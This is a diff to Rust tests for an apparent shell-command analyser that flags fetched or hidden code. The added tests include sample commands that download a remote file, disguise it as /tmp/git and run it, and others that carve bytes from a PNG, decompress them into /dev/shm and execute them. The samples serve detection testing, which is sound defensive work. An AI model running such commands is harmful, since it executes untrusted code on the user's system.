@@ -544,10 +544,24 @@ fn code_that_was_fetched_is_network_code() {
         "git clone https://h.example/x /tmp/x && bash /tmp/x/run.sh",
         "git clone https://h.example/x && cd x && cargo run",
         "curl https://h.example/x.tgz | tar xz && ./x/install.sh",
+        // The name of a known program says nothing about a file that was fetched.
+        "curl -o /tmp/git https://h.example/x && chmod +x /tmp/git && /tmp/git --daemon",
     ] {
         has(text, &["opaque network-code"]);
     }
     has("git clone https://h.example/x && ls x && cat x/README.md", &["reads /w/x/README.md"]);
+}
+
+#[test]
+fn bytes_from_the_middle_of_a_file_are_hidden_code() {
+    for text in [
+        "tail -c +2049 a.png | gunzip > /dev/shm/x && chmod +x /dev/shm/x && /dev/shm/x",
+        "head -c 400 a | sh",
+    ] {
+        has(text, &["opaque code"]);
+    }
+    let found = lines(&command("head -c 400 a > b; cat b", &GROUND));
+    assert!(!found.iter().any(|line| line.starts_with("opaque")), "{found:?}");
 }
 
 #[test]
